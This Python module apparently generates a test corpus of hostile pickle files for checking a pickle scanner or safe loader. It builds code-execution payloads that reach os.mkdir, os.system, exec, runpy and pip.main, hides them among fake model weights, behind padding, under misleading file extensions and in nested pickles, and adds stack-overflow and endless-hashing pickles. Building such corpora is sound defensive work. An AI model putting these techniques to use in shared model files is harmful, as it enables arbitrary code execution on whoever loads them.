"""Pickles that attack: every route with one gadget, every gadget by one route, and some of each together."""

from collections.abc import Callable

from .artefact import Artefact
from .assembly import Code, call, framed, named, push, stream
from .gadgets import NAMED, REAL, Gadget, mkdir, nested, old_call
from .routes import ROUTES, SOURCES, UNPEEKED, Route

_NEEDS = {
    "lib2to3": ("lib2to3",),
    "mailcap": ("mailcap",),
    "distutils": ("distutils",),
    "idlelib": ("idlelib.calltip",),
    "test.support": ("test.support.script_helper",),
    "cloudpickle": ("cloudpickle",),
    "_xxsubinterpreters": ("_xxsubinterpreters",),
}


def _routed(name: str, route: Route) -> Artefact:
    def make(canary: str) -> bytes:
        return route("os", "mkdir", canary)

    loader = "stream" if name in UNPEEKED else "pickle"
    return Artefact(f"route {name}", "routes", make, loader=loader, source=SOURCES.get(name, ""))


def _called(name: str, gadget: Gadget) -> Artefact:
    protocol = 2 if name.startswith("__builtin__") else 4

    def make(canary: str) -> bytes:
        return stream(gadget(canary), protocol)

    needs = next((modules for start, modules in _NEEDS.items() if name.startswith(start)), ())
    return Artefact(f"gadget {name}", "gadgets", make, loader="pickle", needs=needs)


def _named(path: str) -> Artefact:
    return Artefact(f"name {path.replace(':', '.')}", "names", lambda _: old_call(path))


def _in_protocol(number: int) -> Artefact:
    def make(canary: str) -> bytes:
        return b"\x80" + bytes([number]) + ROUTES["by_global"]("os", "mkdir", canary)

    return Artefact(f"protocol {number}", "routes", make, loader="pickle")


def _among_weights(canary: str) -> bytes:
    weights = {f"layer.{number}": [0.5] * 50 for number in range(200)}
    return stream(push({**weights, "layer.200": mkdir(canary), "last": [1.0] * 50}))


def _behind_a_million(canary: str) -> bytes:
    return b"\x80\x04" + b"N0" * 500_000 + mkdir(canary) + b"."


def _object_of_a_class(path: str) -> Callable[[str], bytes]:
    return lambda _: stream(Code(named(path) + b")\x81" + push({"forward": named("os:system")}) + b"b"))


def _by_number(code: bytes) -> Callable[[str], bytes]:
    return lambda _: stream(Code(code + push(("id",)) + b"R"))


OTHERS = (
    Artefact("an attack among weights", "routes", _among_weights, loader="pickle"),
    Artefact("an attack behind a million opcodes", "routes", _behind_a_million, loader="pickle"),
    Artefact("an attack without an ending", "routes", lambda c: framed(mkdir(c)), ending="", loader="pickle"),
    Artefact("an attack named as a picture", "routes", lambda c: framed(mkdir(c)), ending=".png", loader="pickle"),
    Artefact("an attack for pandas", "routes", lambda c: framed(mkdir(c)), loader="pandas"),
    Artefact("an attack for joblib", "routes", lambda c: framed(mkdir(c)), ending=".joblib", loader="joblib"),
    Artefact("an attack for numpy", "routes", lambda c: framed(mkdir(c)), ending=".npy", loader="numpy"),
    Artefact("extension 1", "routes", _by_number(b"\x82\x01")),
    Artefact("extension 2", "routes", _by_number(b"\x83\x01\x01")),
    Artefact("extension 4", "routes", _by_number(b"\x84\x01\x01\x00\x00")),
    Artefact("a gadget as a method of a module", "routes", _object_of_a_class("torch.nn.modules.linear:Linear")),
    Artefact("a gadget as a state of an estimator", "routes", _object_of_a_class("sklearn.svm._classes:SVC")),
    Artefact("a key that hashes for ever", "routes", lambda _: b"\x80\x04})" + b"2\x86" * 64 + b"Ns."),
    Artefact("a key that overflows the stack", "routes", lambda _: b"\x80\x04})" + b"\x85" * 300_000 + b"Ns."),
    Artefact("three pickles deep", "routes", lambda c: _deep(nested(c), 3), loader="pickle"),
)


def _deep(content: bytes, depth: int) -> bytes:
    return content if depth == 0 else _deep(stream(call("pickle:loads", content)), depth - 1)


MIXED = tuple(
    Artefact(f"{route} {module}.{name}", "mixed", lambda _, r=ROUTES[route], m=module, n=name: r(m, n, "evil"))
    for route in ("by_instance", "by_object", "by_escaped_names", "by_a_confused_memo", "by_a_state_that_was_set")
    for module, name in (("os", "system"), ("builtins", "exec"), ("runpy", "run_path"), ("pip", "main"))
)

HOSTILE_PICKLES: tuple[Artefact, ...] = (
    *(_routed(name, route) for name, route in ROUTES.items()),
    *(_called(name, gadget) for name, gadget in REAL.items()),
    *(_named(path) for path in NAMED),
    *(_in_protocol(number) for number in range(6)),
    *OTHERS,
    *MIXED,
)
